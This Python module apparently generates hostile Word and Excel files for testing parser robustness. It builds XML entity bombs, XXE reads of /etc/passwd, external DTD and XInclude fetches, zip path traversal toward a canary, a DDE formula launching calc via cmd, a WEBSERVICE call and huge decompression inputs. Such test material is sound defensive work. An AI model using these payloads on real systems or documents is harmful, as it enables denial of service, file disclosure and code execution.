"""Word files and workbooks made to hurt: bombs, entities, cycles, absurd spans, outside references, path tricks."""

from __future__ import annotations

import io
import warnings
import zipfile
from collections.abc import Iterator
from pathlib import Path

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = {"docx": "word/document.xml", "xlsx": "xl/worksheets/sheet1.xml"}


def with_part(content: bytes, name: str, part: bytes) -> bytes:
    """An office file with one part replaced or added."""
    target = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out,
    ):
        for existing in source.namelist():
            if existing != name:
                out.writestr(existing, source.read(existing))
        out.writestr(name, part)
    return target.getvalue()


def make_office(
    word: bytes, book: bytes, url: str, canary: Path, *, huge: bool
) -> Iterator[tuple[str, bytes]]:
    """Yield (file name, content)."""
    for kind, office in (("docx", word), ("xlsx", book)):
        main = _MAIN[kind]
        for name, part in _markup(url, kind, huge=huge):
            yield f"{name}.{kind}", with_part(office, main, part)
        yield f"path.{kind}", with_part(office, "../" * 8 + str(canary).lstrip("/"), b"outside")
        yield f"absolute.{kind}", with_part(office, str(canary), b"outside")
        yield f"many.{kind}", _many_parts(office)
        yield f"twice.{kind}", _part_twice(office, main)
        yield f"nested.{kind}", _nested(office, 30)
        yield f"before.{kind}", b"MZ" + bytes(100_000) + office
        yield (
            f"macro.{kind}",
            with_part(office, f"{main.split('/')[0]}/vbaProject.bin", bytes(9999)),
        )
        yield f"types.{kind}", with_part(office, "[Content_Types].xml", b"<Types/>")
        yield f"no-relations.{kind}", with_part(office, "_rels/.rels", b"<Relationships/>")
    yield from _word(word, url)
    yield from _book(book, url, huge=huge)


def _markup(url: str, kind: str, *, huge: bool) -> Iterator[tuple[str, bytes]]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    yield "laughs", f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]><x>&l9;</x>'.encode()
    entity = "A" * 100_000
    yield "quadratic", f'<!DOCTYPE x [<!ENTITY a "{entity}">]><x>{"&a;" * 20_000}</x>'.encode()
    yield "loop", b'<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]><x>&a;</x>'
    yield "file", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    yield "device", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///dev/zero">]><x>&e;</x>'
    yield "dtd", f'<!DOCTYPE x SYSTEM "{url}/dtd"><x/>'.encode()
    yield (
        "parameter",
        f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}/p"> %p; <!ENTITY e SYSTEM "{url}/e">]><x>&e;</x>'.encode(),
    )
    include = f'<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="{url}/i"/></x>'
    yield "include", include.encode()
    yield "style", f'<?xml-stylesheet href="{url}/s.xsl" type="text/xsl"?><x/>'.encode()
    yield "deep", b"<x>" * 200_000
    yield "closed-deep", b"<x>" * 100_000 + b"</x>" * 100_000
    names = b" ".join(b'a%d="1"' % n for n in range(100_000))
    yield "attributes", b"<x " + names + b"/>"
    spaces = b" ".join(b'xmlns:n%d="urn:%d"' % (n, n) for n in range(20_000))
    yield "namespaces", b"<x " + spaces + b"/>"
    yield "name", b"<" + b"x" * 5_000_000 + b"/>"
    yield "utf7", b'<?xml version="1.0" encoding="utf-7"?><x>+ADw-y+AD4-</x>'
    yield "unknown-encoding", b'<?xml version="1.0" encoding="x-\xff"?><x/>'
    yield "utf16", '<?xml version="1.0" encoding="utf-16"?><x>甲</x>'.encode("utf-16")
    yield "nothing", b""
    yield "nul", b"\x00" * 100_000
    if huge:
        yield "bomb", b"<x>" + b" " * (1 << 30)
    else:
        yield "bomb", b"<x>" + b" " * (64 << 20)


def _word(word: bytes, url: str) -> Iterator[tuple[str, bytes]]:
    def body(content: str) -> bytes:
        text = f'<w:document xmlns:w="{_WORD}" xmlns:r="{_OFFICE}"><w:body>{content}</w:body></w:document>'
        return with_part(word, _MAIN["docx"], text.encode())

    def cell(text: str, properties: str = "") -> str:
        return f"<w:tc><w:tcPr>{properties}</w:tcPr><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:tc>"

    table, row = "<w:tbl>{}</w:tbl>", "<w:tr>{}</w:tr>"
    for number in ("0", "-1", "65535", "2147483647", "99999999999999999999", "x"):
        span = cell("1", f'<w:gridSpan w:val="{number}"/>')
        yield f"span{number}.docx", body(table.format(row.format(span) * 3))
    before = f'<w:tr><w:trPr><w:gridBefore w:val="999999999"/></w:trPr>{cell("1")}</w:tr>'
    yield "before-grid.docx", body(table.format(before))
    merged = cell("1", "<w:vMerge/>")
    yield "merged.docx", body(table.format(row.format(merged * 50) * 2000))
    yield "wide.docx", body(table.format(row.format(cell("1") * 100_000)))
    yield "long.docx", body(table.format(row.format(cell("1")) * 50_000))
    inner = table.format(row.format(cell("1")))
    for _ in range(200):
        inner = table.format(row.format(f"<w:tc>{inner}<w:p/></w:tc>"))
    yield "tables-in-tables.docx", body(inner)
    yield "paragraph.docx", body(f"<w:p><w:r><w:t>{'1.00万元，' * 500_000}</w:t></w:r></w:p>")
    field = f'<w:p><w:r><w:instrText>INCLUDETEXT "{url}"</w:instrText></w:r></w:p>'
    yield "field.docx", body(field + '<w:altChunk r:id="rId1"/>')
    outside = (
        f'<Relationships xmlns="{_RELATIONS}">'
        f'<Relationship Id="rId1" Type="{_OFFICE}/attachedTemplate" Target="{url}/t.dotm" TargetMode="External"/>'
        f'<Relationship Id="rId2" Type="{_OFFICE}/styles" Target="../../../../etc/passwd"/>'
        f'<Relationship Id="rId3" Type="{_OFFICE}/numbering" Target="document.xml"/></Relationships>'
    )
    yield "outside.docx", with_part(word, "word/_rels/document.xml.rels", outside.encode())
    styles = f'<w:styles xmlns:w="{_WORD}">' + "".join(
        f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 500}"/></w:style>'
        for n in range(500)
    )
    yield "cyclic-styles.docx", with_part(word, "word/styles.xml", f"{styles}</w:styles>".encode())


def _book(book: bytes, url: str, *, huge: bool) -> Iterator[tuple[str, bytes]]:
    def sheet(rows: str, before: str = "", after: str = "") -> bytes:
        text = (
            f'<worksheet xmlns="{_SHEET}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'
        )
        return with_part(book, _MAIN["xlsx"], text.encode())

    corners = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in (1, 1_048_576))
    yield "corners.xlsx", sheet(corners)
    yield "dimension.xlsx", sheet("", '<dimension ref="A1:XFD1048576"/>')
    yield "row.xlsx", sheet('<row r="99999999999"><c r="ZZZZZZ99999999999"><v>1</v></c></row>')
    yield "order.xlsx", sheet('<row r="5"><c r="B5"><v>1</v></c></row><row r="1"><c r="A9"/></row>')
    formula = f'<row r="1"><c r="A1"><f>WEBSERVICE("{url}")</f><v>1</v></c></row>'
    yield "formula.xlsx", sheet(formula)
    yield (
        "dde.xlsx",
        sheet('<row r="1"><c r="A1" t="str"><f>cmd|\' /C calc\'!A0</f><v>1</v></c></row>'),
    )
    everything = '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
    one = '<row r="1"><c r="A1"><v>1</v></c></row>'
    yield "merge-all.xlsx", sheet(one, after=everything)
    many = "".join(f'<mergeCell ref="A{n}:Z{n + 9}"/>' for n in range(1, 100_000))
    yield "merges.xlsx", sheet(one, after=f"<mergeCells>{many}</mergeCells>")
    odd = "".join(
        f'<mergeCell ref="{ref}"/>'
        for ref in ("", ":", "B2:A1", "A0:A0", "A1", "A1:B", "1:1", "甲1:乙2")
    )
    yield "odd-merges.xlsx", sheet(one, after=f"<mergeCells>{odd}</mergeCells>")
    numbers = ("1e308", "-1e308", "NaN", "INF", "1e-400", "9" * 5000, "0x10", "١٢٣", "")
    cells = "".join(f'<c r="{chr(65 + n)}1"><v>{text}</v></c>' for n, text in enumerate(numbers))
    yield "numbers.xlsx", sheet(f'<row r="1">{cells}</row>')
    yield "dates.xlsx", sheet('<row r="1"><c r="A1" s="1" t="d"><v>99999-99-99</v></c></row>')
    missing = "".join(
        f'<c r="{c}1" t="s"><v>{n}</v></c>' for c, n in zip("ABC", (-1, 999999, "x"), strict=True)
    )
    yield "strings.xlsx", sheet(f'<row r="1">{missing}</row>')
    rows = 1_000_000 if huge else 60_000
    yield (
        "rows.xlsx",
        sheet("".join(f'<row r="{n}"><c r="A{n}"><v>1</v></c></row>' for n in range(1, rows))),
    )
    text = "甲" * 1_000_000
    shared = f'<sst xmlns="{_SHEET}"><si><t>{text}</t></si></sst>'.encode()
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 2000))
    yield "shared.xlsx", with_part(sheet(cells), "xl/sharedStrings.xml", shared)


def _many_parts(office: bytes) -> bytes:
    target = io.BytesIO(office)
    with zipfile.ZipFile(target, "a") as out:
        for number in range(20_000):
            out.writestr(f"x/{number}.xml", b"")
    return target.getvalue()


def _part_twice(office: bytes, name: str) -> bytes:
    target = io.BytesIO(office)
    with zipfile.ZipFile(target, "a") as out, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # that the name is there already is the point
        out.writestr(zipfile.ZipInfo(name), b"<x/>")
    return target.getvalue()


def _nested(office: bytes, depth: int) -> bytes:
    """Archives within archives."""
    for number in range(depth):
        target = io.BytesIO()
        with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
            out.writestr(f"{number}.zip", office)
        office = target.getvalue()
    return office
